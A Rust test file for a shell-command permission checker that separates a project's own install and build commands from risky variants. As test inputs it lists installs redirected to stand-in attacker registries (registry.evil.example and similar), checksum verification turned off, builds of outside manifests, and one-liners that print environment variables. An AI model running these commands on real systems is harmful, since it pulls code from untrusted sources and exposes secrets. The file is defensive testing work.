//! Installing and building what the project declares is the project family in every
//! toolchain; the same commands pointed at another registry, index, feed or mirror (by an
//! option or a variable) always ask, and pointed at another project's folder or manifest (by an
//! option) ask under their own words, as after a `cd` out of the workspace.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, PROJECT, always_ask, family, project_family};

/// Each script asks (once or always) and no grant of the project's builds or of new
/// dependencies covers it.
fn outside_both_families(scripts: &[&str]) {
    let families = [PROJECT, Some("registry add dependency")];
    let bad: Vec<String> = scripts
        .iter()
        .filter_map(|s| {
            let v = judge(s, &ENV);
            (v.level == Level::Allow || families.contains(&v.grant.as_deref()))
                .then(|| format!("{s:?}: {:?} `{}` grant {:?}", v.level, v.row, v.grant))
        })
        .collect();
    assert!(
        bad.is_empty(),
        "should ask outside both families:\n{}",
        bad.join("\n")
    );
}

#[test]
fn installing_what_the_lockfile_pins_is_the_project_family() {
    project_family(&[
        "npm ci",
        "npm install",
        "pnpm install --frozen-lockfile",
        "pnpm -C apps/web install",
        "yarn install --immutable",
        "bun install --frozen-lockfile",
        "uv sync",
        "uv sync --frozen",
        "poetry install",
        "bundle install",
        "go mod download",
        "cargo fetch",
        "composer install",
        "dotnet restore",
        "mix deps.get",
        "flutter pub get",
        "pip install -r requirements.txt",
        ".venv/bin/pip install -r requirements-dev.txt",
        "npm ci --prefix web",
        "cargo build --manifest-path src-tauri/Cargo.toml",
        "cargo test --manifest-path crates/core/Cargo.toml",
        "cargo build --config profile.dev.opt-level=1",
        "make -C docs html",
        "make -f Makefile.ci test",
        "./gradlew -p services/api build",
        "mvn -f api/pom.xml test",
        "./mvnw -q -DskipTests package",
        "go -C tools test ./...",
        "uv sync --directory packages/core",
        "dotnet test -s test.runsettings",
        "GOFLAGS=-mod=mod go test ./...",
        "conda env create -f environment.yml",
        "conda env update -n ml -f environment.yml --prune",
        "conda env update -f environment.yml -c conda-forge",
        "micromamba create -f environment.yml",
        "micromamba create -n ml -f environment.yml -y",
        "uv run pytest -f",
    ]);
    // A named channel or configured registry is the public registry's, as a package name is.
    family(
        "registry add dependency",
        &[
            "conda install -n ml -c conda-forge polars",
            "cargo add serde --registry corp",
            "npm install express",
        ],
    );
}

#[test]
fn installs_and_builds_from_another_registry_always_ask() {
    always_ask(&[
        "npm ci --registry=https://registry.evil.example",
        "npm install --registry https://registry.evil.example",
        "npm i --registry https://registry.evil.example",
        "npm ci --@acme:registry=https://registry.evil.example",
        "npm ci --userconfig /tmp/npmrc",
        "pnpm install --frozen-lockfile --registry=https://registry.evil.example",
        "yarn --registry https://registry.evil.example",
        "npm_config_registry=https://registry.evil.example npm ci",
        "NPM_CONFIG_REGISTRY=https://registry.evil.example pnpm install",
        "YARN_NPM_REGISTRY_SERVER=https://registry.evil.example yarn install",
        "export npm_config_registry=https://registry.evil.example",
        "GOPROXY=https://proxy.evil.example go mod download",
        "GOPROXY=https://proxy.evil.example go build ./...",
        "GONOSUMDB=* go test ./...",
        "GOSUMDB=off go mod download",
        "export GOPROXY=https://proxy.evil.example && go mod download",
        "PIP_INDEX_URL=https://pypi.evil.example/simple pip install -r requirements.txt",
        "UV_INDEX_URL=https://pypi.evil.example/simple uv sync",
        "UV_DEFAULT_INDEX=https://pypi.evil.example/simple uv sync",
        "uv sync --index-url https://pypi.evil.example/simple",
        "POETRY_REPOSITORIES_EVIL_URL=https://pypi.evil.example poetry install",
        "dotnet restore --source https://nuget.evil.example/v3/index.json",
        "dotnet build --source=https://nuget.evil.example/v3/index.json",
        "dotnet restore --configfile /tmp/nuget.config",
        "cargo fetch --config 'source.crates-io.replace-with=\"evil\"'",
        "cargo build --config 'registries.evil.index=\"https://x\"'",
        "CARGO_REGISTRIES_EVIL_INDEX=https://index.evil.example cargo build",
        "PUB_HOSTED_URL=https://pub.evil.example flutter pub get",
        "HEX_MIRROR=https://hex.evil.example mix deps.get",
        "BUNDLE_MIRROR__RUBYGEMS__ORG=https://gems.evil.example bundle install",
        "BUNDLE_GEMFILE=../other/Gemfile bundle install",
    ]);
}

#[test]
fn builds_of_another_projects_folder_are_not_the_projects() {
    outside_both_families(&[
        // A row's own exception for another index asks under its own words.
        "pnpm install --frozen-lockfile --registry https://registry.evil.example",
        "pip install -r requirements.txt -i https://pypi.evil.example/simple",
        "npm install express --registry https://registry.evil.example",
        "conda env update -f environment.yml -c https://conda.evil.example/channel",
        "conda env create -f environment.yml -c someuser",
        "micromamba create -f environment.yml -c https://conda.evil.example/channel",
        "npm ci --prefix ../other",
        "npm run build --prefix /tmp/x",
        "npm ci --prefix $DIR",
        "pnpm -C ../other install",
        "pnpm install --dir=/tmp/other",
        "yarn --cwd ../other install",
        "cargo test --manifest-path /tmp/x/Cargo.toml",
        "cargo fetch --manifest-path ../other/Cargo.toml",
        "cargo build --config /tmp/evil.toml",
        "go -C /tmp/x test ./...",
        "go build -modfile=../other/go.mod ./...",
        "poetry install -C ../other",
        "poetry install --directory=../other",
        "uv sync --directory ../other",
        "uv sync --project /srv/app",
        "composer install --working-dir /tmp/x",
        "composer install -d ../other",
        "bundle install --gemfile ../other/Gemfile",
        "make -C ../other test",
        "make -C/tmp/x",
        "make -f ../other/Makefile",
        "./gradlew -p ../other build",
        "mvn -f ../other/pom.xml test",
        "./mvnw -f /srv/app/pom.xml package",
        "dotnet build --project ../other/App.csproj",
        "pip install -r /tmp/evil/requirements.txt",
        "pip install -r ../other/requirements.txt",
        "cmake -S ../other -B build",
        "just -d ../other test",
    ]);
}

/// pipenv and pixi: installing what their lock files pin and running the project's tasks are
/// the project family; a package named is a new dependency; their global tools, uploads,
/// credentials, another index or manifest, and inline code through their runners are not.
#[test]
fn pipenv_and_pixi_are_toolchains_of_the_project() {
    project_family(&[
        "pipenv install",
        "pipenv install --dev",
        "pipenv install --deploy",
        "pipenv sync --dev",
        "pipenv lock",
        "pipenv run pytest -q",
        "pixi install",
        "pixi install --locked",
        "pixi run pytest",
        "pixi run -e test pytest -x",
        "pixi run lint",
        "pipenv run lint",
        "pixi lock",
        "pixi build",
    ]);
    family(
        "registry add dependency",
        &[
            "pipenv install requests",
            "pipenv install -d pytest",
            "pipenv update",
            "pixi add numpy",
            "pixi update",
        ],
    );
    always_ask(&[
        "pipenv install --pypi-mirror https://pypi.evil.example/simple",
        "PIPENV_PYPI_MIRROR=https://pypi.evil.example/simple pipenv sync",
        "pipenv install --index https://pypi.evil.example/simple",
        "pipenv run python -c 'import os; print(os.environ)'",
        "pixi global install ruff",
        "pixi upload https://prefix.dev/api/v1/upload/x pkg.conda",
        "pixi publish",
        "pixi auth login prefix.dev --token x",
        "pixi self-update",
        "pixi config set --global default-channels '[\"x\"]'",
        "pixi run python -c 'import os; print(os.environ)'",
    ]);
    outside_both_families(&[
        "pipenv --rm",
        "pixi exec cowpy hi",
        "pixi add -c someuser numpy",
        "pixi install --manifest-path ../other/pixi.toml",
        "cd /tmp/other && pipenv install",
        "pixi run deploy",
    ]);
}

/// The toolchains of Haskell, Erlang, OCaml, Gleam and Crystal, and the Ant, Pants and Buck2
/// build tools: their builds, tests and the fetching of what their lock files or snapshots pin
/// are the project family, not a family of their own; adding or re-resolving dependencies is
/// the add-dependency family; publishing, installing into the user's environment and the
/// toolchain's own installation always ask; their REPLs and inline code ask on their own.
#[test]
fn other_language_toolchains_are_the_project_family() {
    project_family(&[
        "stack build",
        "stack build --only-dependencies",
        "stack test --ta '--match parser'",
        "stack bench",
        "stack run -- --help",
        "cabal build all",
        "cabal v2-test",
        "cabal run app -- --help",
        "cabal freeze",
        "rebar3 compile",
        "rebar3 eunit",
        "rebar3 ct --suite=api_SUITE",
        "rebar3 get-deps",
        "rebar3 dialyzer",
        "dune build",
        "dune test",
        "dune build @fmt --auto-promote",
        "dune exec ./bin/main.exe",
        "gleam build",
        "gleam test",
        "gleam deps download",
        "gleam format --check src test",
        "shards install",
        "crystal spec",
        "crystal build src/app.cr -o bin/app",
        "ant test",
        "ant -f build.xml compile",
        "pants test ::",
        "pants lint fmt src/python::",
        "buck2 test //...",
        "buck2 build //app:server",
    ]);
    family(
        "registry add dependency",
        &[
            "rebar3 upgrade cowboy",
            "rebar3 unlock",
            "gleam add gleam_json",
            "gleam deps update",
            "shards update",
        ],
    );
    always_ask(&[
        "stack upload .",
        "stack install",
        "stack setup",
        "stack upgrade",
        "cabal upload dist-newstyle/sdist/x-1.0.tar.gz",
        "cabal install --lib aeson",
        "cabal v2-install exe:app",
        "rebar3 hex publish",
        "rebar3 hex user auth",
        "rebar3 local install",
        "dune install",
        "gleam publish",
        "gleam hex retire x 1.0.0 security",
        "gleam docs publish",
        "ant deploy",
        "ant publish",
        "pants publish ::",
        "buck2 run //:deploy",
    ]);
    outside_both_families(&[
        "stack exec -- ghc --version",
        "stack eval 'print 1'",
        // Haskell's REPLs over the project's modules are the project family, as `ghci` is
        // (the code fed to them is checked, see `ecosystems.rs`); Erlang's shell is not.
        "rebar3 shell",
        "crystal eval 'puts 1'",
        "ant -f ../other/build.xml",
        "stack build --stack-yaml /tmp/other/stack.yaml",
        "cd /tmp/other && cabal build",
    ]);
}
